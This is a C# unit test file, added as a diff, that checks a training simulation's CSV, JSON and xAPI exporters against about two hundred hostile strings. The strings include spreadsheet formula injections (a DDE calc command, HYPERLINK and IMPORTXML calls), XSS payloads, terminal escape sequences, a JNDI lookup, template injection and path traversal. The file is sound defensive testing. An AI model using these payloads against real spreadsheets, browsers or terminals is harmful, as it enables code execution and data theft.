@@ -1,0 +1,132 @@
+using System.Text;
+using System.Text.Json;
+using TrustSim.Authoring.Format;
+using TrustSim.Core.Play;
+using TrustSim.Core.Text;
+using TrustSim.Records.Export;
+using TrustSim.Records.Journal;
+using TrustSim.Records.Tests.Journal;
+
+namespace TrustSim.Records.Tests.Export;
+
+/// <summary>Names and prose that try something, in every form that leaves the machine, looked at as bytes.</summary>
+public sealed class HostileExportTests : IDisposable
+{
+    static readonly string[] Texts =
+    [
+        .. from sign in (string[])["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\ufeff=", "\u200b=", "\u200d=", "\u202e=", ";=", "\"=", "\",="]
+           from formula in (string[])["1+1", "HYPERLINK(\"http://x.invalid\",\"click\")", "cmd|' /C calc'!A0", "IMPORTXML(CONCAT(\"http://x.invalid\",A1),\"//a\")"]
+           select sign + formula,
+        .. from code in Enumerable.Range(0, 32).Append(0x7F).Concat(Enumerable.Range(0x80, 32)) select $"a{(char)code}b",
+        .. from code in (int[])[0x200B, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x061C, 0xFEFF, 0x2028, 0x2029, 0xAD, 0xFFFE, 0xFFFF, 0xFDD0, 0xE000] select $"a{(char)code}b",
+        "\u001b[31mred", "\u001b]0;title\a", "\u001b]52;c;UFdORUQ=\a", "\u009b35m", "\u001b[2J\u001b[H", "\u001bP1$r\u001b\\", "\b\b\bover",
+        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)", "javascript:alert(1)", "<!--", "-->", "]]>", "<svg/onload=alert(1)>",
+        "\ud83d", "\udc00", "a\ud83d\ud83db", "\udc00\ud83d", "👨‍👩‍👧‍👦", "👩🏽‍🚀", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "e" + new string('\u0301', 300), new string('w', 5000), new string('界', 3000),
+        "\\", "\\u0022", "\"", "\"\"", "\",\"", "\r\n", "\n\n", "{\"a\":1}", "null", "NaN", "${jndi:x}", "{{7*7}}", "%s%n", "../../etc/passwd", "CON", "a\0b",
+    ];
+
+    readonly string folder = Directory.CreateTempSubdirectory("trustsim-").FullName;
+
+    public void Dispose() => Directory.Delete(folder, recursive: true);
+
+    [Fact]
+    public void There_are_two_hundred_of_them() => Texts.Distinct().Count().ShouldBeGreaterThanOrEqualTo(200);
+
+    [Fact]
+    public void Nothing_in_csv_json_or_statements_can_act()
+    {
+        foreach (var text in Texts)
+        {
+            var document = Document(text);
+            var (csv, json, xapi) = (PlayCsv.Of([document]), PlayJson.Of([document]), PlayXapi.Document(PlayXapi.Of(document)));
+            foreach (var written in (string[])[Encoding.UTF8.GetString(csv)[1..].ReplaceLineEndings("\n"), json, xapi]) Visible.Of(written).ShouldBe(written, Shown(text));
+            foreach (var cell in CsvTests.Read(csv).Skip(1).SelectMany(row => row).Where(cell => !double.TryParse(cell, out _)))
+                cell.TrimStart('\u200d', '\u200c', ' ', '\u00a0').FirstOrDefault().ToString().ShouldBeOneOf([.. CellBeginnings(cell)], Shown(text));
+            using var read = JsonDocument.Parse(json);
+            using var statements = JsonDocument.Parse(xapi);
+            read.RootElement.GetProperty("plays")[0].GetProperty("alias").GetString().ShouldBe(WellFormed((text + "x").Trim()), Shown(text));
+        }
+    }
+
+    [Fact]
+    public void All_of_it_comes_back_from_an_import()
+    {
+        foreach (var text in Texts)
+        {
+            var before = PlayJson.Of([Document(text)]);
+            var import = PlayImport.Of(PlayJson.Read(Encoding.UTF8.GetBytes(before)).Plays[0], Archive("again"));
+            import.Remark.ShouldBeNull(Shown(text));
+            PlayJson.Of([PlayParts.DocumentOf(import.Copy!, Archive("again").At)!]).ShouldBe(before, Shown(text));
+        }
+    }
+
+    [Fact]
+    public void The_name_of_a_scenario_leads_nowhere_else()
+    {
+        var document = Document("../../x") with { Scenario = new("../../../x\0/..", "T", null) };
+        Archive("again").BringIn(PlayCopy.Of(document.Play!.Value, document.Scenario.Id, "T", document.Begun!.Value, document.Journal!.Text, document.Journal.Entries)!);
+        Path.GetFileName(Directory.GetFiles(Path.Combine(folder, "again")).ShouldHaveSingleItem()).ShouldBe("20261125-090000----------x----.journal");
+    }
+
+    [Theory]
+    [InlineData("")]
+    [InlineData("null")]
+    [InlineData("[]")]
+    [InlineData("{}")]
+    [InlineData("{\"format\":1}")]
+    [InlineData("{\"format\":\"trustsim-export/1\"}")]
+    [InlineData("{\"format\":\"trustsim-export/1\",\"notice\":\"\",\"plays\":null}")]
+    [InlineData("{\"format\":\"trustsim-export/1\",\"notice\":\"\",\"plays\":[null]}")]
+    [InlineData("{\"format\":\"trustsim-export/1\",\"notice\":\"\",\"plays\":[{}]}")]
+    [InlineData("{\"format\":\"trustsim-play/9\"}")]
+    [InlineData("{\"format\":\"trustsim-play/2\",\"format\":\"trustsim-play/2\"}")]
+    public void What_is_no_export_is_said_to_be_none(string text)
+    {
+        var (plays, problem) = PlayJson.Read(Encoding.UTF8.GetBytes(text));
+        plays.ShouldBeEmpty();
+        problem.ShouldNotBeNullOrEmpty();
+    }
+
+    PlayDocument Document(string words)
+    {
+        // No scenario with half a sign can be read; but a player's alias may have one.
+        var text = WellFormed(words) == words ? words : "";
+        var yaml =
+            $$"""
+            trustsim: 1
+            title: {{Quoted("T" + text)}}
+            team: { ada: { name: {{Quoted(text + "A")}} } }
+            scenes:
+              one: { title: {{Quoted(text + "S")}}, ask: {{Quoted(text + "?")}}, choices: [{ id: yes, text: {{Quoted(text + "Y")}} }, { id: no, text: {{Quoted(text + "N")}} }] }
+              end: { ending: {{Quoted(text + "E")}} }
+            """;
+        var scenario = ScenarioReader.Read(yaml, "hostile.yaml").Scenario.ShouldNotBeNull(Shown(text));
+        var plays = Directory.CreateDirectory(Path.Combine(folder, Guid.NewGuid().ToString("N"))).FullName;
+        using (var record = new PlayKeeper(plays, Read, new Clock()).Begin(scenario, yaml))
+        {
+            record.Note(Playthrough.Start(scenario).ToQuestion().Decide(new("yes")).ToQuestion());
+            record.CallPlayer(words + "x");
+            record.Call(record.Tree.Current, words);
+        }
+
+        return PlayParts.DocumentOf(PlayArchive.CopyOf(Directory.GetFiles(plays).ShouldHaveSingleItem())!, Archive("plays").At)!;
+    }
+
+    PlayArchive Archive(string name) => new(Path.Combine(folder, name), Read, new Clock());
+
+    static Core.Story.Scenario? Read(string text) => ScenarioReader.Read(text, "kept").Scenario;
+
+    // JSON is YAML, and says every sign by its number where it has to.
+    static string Quoted(string text) => "\"" + string.Concat(text.Select(sign => sign is >= ' ' and <= '~' and not ('"' or '\\') ? $"{sign}" : $"\\u{(int)sign:x4}")) + "\"";
+
+    static string WellFormed(string text) => string.Concat(text.EnumerateRunes());
+
+    static IEnumerable<string> CellBeginnings(string cell)
+    {
+        var first = cell.TrimStart('\u200d', '\u200c', ' ', '\u00a0').FirstOrDefault();
+        if (!"=+-@＝＋－＠".Contains(first)) yield return first.ToString();
+        yield return "'";
+    }
+
+    static string Shown(string text) => string.Concat(text.Take(60).Select(sign => sign is >= ' ' and <= '~' ? $"{sign}" : $"\\u{(int)sign:x4}"));
+}
